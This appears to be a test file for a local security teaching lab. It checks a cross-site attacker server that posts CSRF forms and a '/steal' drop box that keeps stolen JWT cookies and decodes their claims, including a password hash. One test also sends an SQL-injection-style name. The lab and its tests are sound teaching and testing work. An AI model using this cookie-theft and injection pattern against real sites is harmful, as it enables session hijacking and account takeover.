// The server side of the CSRF and XSS scenarios (docs/attacks.md#csrf): the attacker's second-origin
// server, the origin check with its per-viewer switch, and SameSite=None per viewer. What the
// browser does with SameSite is in test/e2e/attacks.test.ts.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAttacker, type AttackerServer } from '../server/lab/attacker.js';
import { Client, startLab, type TestLab } from './helpers.js';

let lab: TestLab;
let attacker: AttackerServer;

beforeAll(async () => {
  lab = await startLab();
  attacker = await startAttacker(lab.origin);
});
afterAll(async () => {
  await attacker.close();
  await lab.stop();
});

async function loggedIn(): Promise<Client> {
  const client = new Client(lab.url);
  await client.becomeViewer();
  expect((await client.login('session')).status).toBe(200);
  expect((await client.login('jwt')).status).toBe(200);
  return client;
}

const crossSite = () => ({ origin: attacker.origin, 'sec-fetch-site': 'cross-site' });

describe('the attacker server', () => {
  it('is on another site than the lab: localhost against 127.0.0.1', () => {
    expect(new URL(attacker.origin).hostname).toBe('localhost');
    expect(new URL(lab.origin).hostname).toBe('127.0.0.1');
  });

  it('serves a page that submits one cross-site form to the lab', async () => {
    const res = await fetch(`${attacker.origin.replace('localhost', '127.0.0.1')}/csrf?flow=jwt&action=follow`);
    expect(res.status).toBe(200);
    const html = await res.text();
    expect(html).toContain(`action="${lab.origin}/api/jwt/follow/mallory"`);
    expect(html).toContain('method="POST"');
  });

  it('answers 400 to a page request it does not know', async () => {
    const res = await fetch(`${attacker.origin.replace('localhost', '127.0.0.1')}/csrf?flow=admin&action=drop`);
    expect(res.status).toBe(400);
  });
});

describe('POST /api/<flow>/follow/:name and /logout from another site', () => {
  it('refuses both with 403 and a sentence while the origin check is on', async () => {
    const client = await loggedIn();
    for (const flow of ['session', 'jwt'] as const) {
      for (const path of [`/api/${flow}/follow/mallory`, `/api/${flow}/logout`]) {
        const res = await client.post(path, undefined, crossSite());
        expect(res.status, path).toBe(403);
        expect((await res.json()).error).toMatch(/another site/);
      }
      const following = await client.get(`/api/${flow}/following`);
      expect((await following.json()).following).toEqual([]);
      expect((await client.get(`/api/${flow}/me`)).status).toBe(200);
    }
  });

  it('lets both through when this viewer turns the check off, on both flows', async () => {
    const client = await loggedIn();
    expect((await client.put('/api/lab', { csrfCheck: false })).status).toBe(200);
    for (const flow of ['session', 'jwt'] as const) {
      expect((await client.post(`/api/${flow}/follow/mallory`, undefined, crossSite())).status).toBe(204);
      expect((await (await client.get(`/api/${flow}/following`)).json()).following).toEqual(['mallory']);
      expect((await client.post(`/api/${flow}/logout`, undefined, crossSite())).status).toBe(204);
      expect((await client.get(`/api/${flow}/me`)).status).toBe(401);
    }
  });

  it("keeps another viewer's check on", async () => {
    const off = await loggedIn();
    await off.put('/api/lab', { csrfCheck: false });
    const other = await loggedIn();
    expect((await other.post('/api/jwt/follow/mallory', undefined, crossSite())).status).toBe(403);
  });

  it('answers 400 to a name that is not a plain handle, and 401 without a login', async () => {
    const client = await loggedIn();
    expect((await client.post('/api/jwt/follow/Robert%27);DROP')).status).toBe(400);
    const anonymous = new Client(lab.url);
    await anonymous.becomeViewer();
    expect((await anonymous.post('/api/session/follow/mallory')).status).toBe(401);
  });
});

describe('PUT /api/lab { sameSite }', () => {
  it('sets this viewer’s cookies SameSite=None; Secure from then on, the lab cookie at once', async () => {
    const client = new Client(lab.url);
    await client.becomeViewer();
    const put = await client.put('/api/lab', { sameSite: 'none' });
    expect(put.headers.getSetCookie().find((c) => c.startsWith('lab='))).toMatch(/SameSite=None; Secure/);
    for (const flow of ['session', 'jwt'] as const) {
      const login = await client.login(flow);
      const cookie = login.headers.getSetCookie().find((c) => c.startsWith(flow === 'session' ? 'sid=' : 'token='));
      expect(cookie).toMatch(/SameSite=None/);
      expect(cookie).toMatch(/Secure/);
      expect(cookie).toMatch(/HttpOnly/);
    }
  });

  it('refuses a value other than lax or none with 400', async () => {
    const client = new Client(lab.url);
    await client.becomeViewer();
    const res = await client.put('/api/lab', { sameSite: 'strict' });
    expect(res.status).toBe(400);
    expect((await res.json()).error).toMatch(/sameSite must be/);
  });
});

describe('GET /steal on the attacker server (the XSS payload’s drop box)', () => {
  it('keeps a stolen original-post token, decoded: the password hash and no exp', async () => {
    const client = new Client(lab.url);
    await client.becomeViewer();
    await client.put('/api/lab', { originalPost: true });
    await client.login('jwt');
    const token = client.cookies.get('token') ?? '';
    const id = 'ab'.repeat(16);
    const base = attacker.origin.replace('localhost', '127.0.0.1');
    expect((await fetch(`${base}/steal?id=${id}&c=${encodeURIComponent(`token=${token}`)}`)).status).toBe(204);
    const { loot } = (await (await fetch(`${base}/loot?id=${id}`)).json()) as { loot: { token: string; claims: Record<string, unknown> } };
    expect(loot.token).toBe(token);
    expect(String(loot.claims.passwordHash)).toMatch(/^scrypt\$/);
    expect(loot.claims.exp).toBeUndefined();
  });

  it('keeps a cookie string with broken percent-encoding as it came, instead of failing', async () => {
    const id = 'cd'.repeat(16);
    const base = attacker.origin.replace('localhost', '127.0.0.1');
    expect((await fetch(`${base}/steal?id=${id}&c=${encodeURIComponent('token=%E0%A4%A')}`)).status).toBe(204);
    const { loot } = (await (await fetch(`${base}/loot?id=${id}`)).json()) as { loot: { token: string; claims: unknown } };
    expect(loot.token).toBe('%E0%A4%A');
    expect(loot.claims).toBeNull();
  });
});
